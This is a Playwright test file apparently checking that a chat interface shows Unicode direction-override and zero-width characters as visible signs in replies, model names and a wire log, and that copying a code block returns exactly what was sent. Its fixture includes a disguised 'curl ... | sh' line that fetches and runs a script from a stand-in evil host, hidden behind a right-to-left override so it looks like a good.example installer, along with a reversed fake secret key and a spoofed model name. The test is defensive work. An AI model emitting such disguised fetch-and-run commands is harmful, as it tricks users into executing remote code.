import { expect } from '@playwright/test';
import { answer, go, test } from './support/hostile-chat.ts';
import { say } from './support/hostile-page.ts';
import { detail, openTab, row } from './support/wire-acts.ts';

const reversed = (text: string) => [...text].reverse().join('');
const command = 'curl \u202ehs | hs.live/elpmaxe.live\u202c # https://good.example/install\u200b.sh';
const text = `Read \u202e${reversed('sk-live-AbCdEf0123456789')}\u202c now.\n\n\`\`\`bash\n${command}\n\`\`\`\n`;
/** A model whose name looks like another one. */
const model = 'gpt\u200b-4\u202eo';

test('what turns the reading order or is invisible is drawn as a sign, and copying gives what was sent', async ({
  chat: page,
  gateway,
}) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  gateway.say({ text, lines: [model] });
  await say(page, 'Install it');
  const reply = answer(page);
  await expect(reply).toContainText('now.');
  const signs = reply.locator('[data-sign]');
  expect(await signs.evaluateAll((all) => all.map((sign) => sign.getAttribute('data-sign')))).toEqual([
    ...['U+202E', 'U+202C'],
    ...['U+202E', 'U+202C', 'U+200B'],
  ]);
  await expect(signs.first()).toBeVisible();
  // The letters are displayed as they were sent: the second is to the right of the first.
  const places = await reply.locator('p', { hasText: 'now.' }).evaluate((paragraph) => {
    const word = [...paragraph.childNodes].find((node) => node.textContent?.startsWith('98765'));
    const range = document.createRange();
    return [0, 1, 2].map((at) => {
      range.setStart(word as Node, at);
      range.setEnd(word as Node, at + 1);
      return range.getBoundingClientRect().left;
    });
  });
  expect(places).toEqual([...places].sort((one, other) => one - other));

  await reply.locator('figure').getByRole('button', { name: /^Copy/ }).first().click();
  expect((await page.evaluate(() => navigator.clipboard.readText())).trimEnd()).toBe(command);

  await go(page, 'Models');
  await page.getByRole('button', { name: 'Refresh' }).click();
  await expect(page.getByRole('main').locator('[data-sign="U+202E"]').first()).toBeVisible();

  await go(page, 'Wire');
  await row(page, /chat\/completions/).click();
  await openTab(page, 'Response');
  await expect(detail(page).locator('[data-sign="U+202E"]').first()).toBeVisible();
});
